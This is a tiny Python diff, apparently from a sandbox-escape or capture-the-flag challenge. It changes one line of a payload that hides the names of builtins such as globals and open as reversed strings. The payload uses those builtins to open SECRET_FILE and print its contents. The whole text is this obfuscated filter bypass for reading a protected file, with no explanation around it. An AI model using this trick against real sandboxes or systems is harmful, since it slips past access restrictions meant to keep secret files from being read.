@@ -17,4 +17,4 @@
 # act: read
 
 space = getattr(functools.wraps, '__slabolg__'[::-1])
-print(vars(getattr(print, '__fles__'[::-1]))['nepo'[::-1]](SECRET_FILE).read())
+print(vars(getattr(len, '__fles__'[::-1]))['nepo'[::-1]](SECRET_FILE).read())
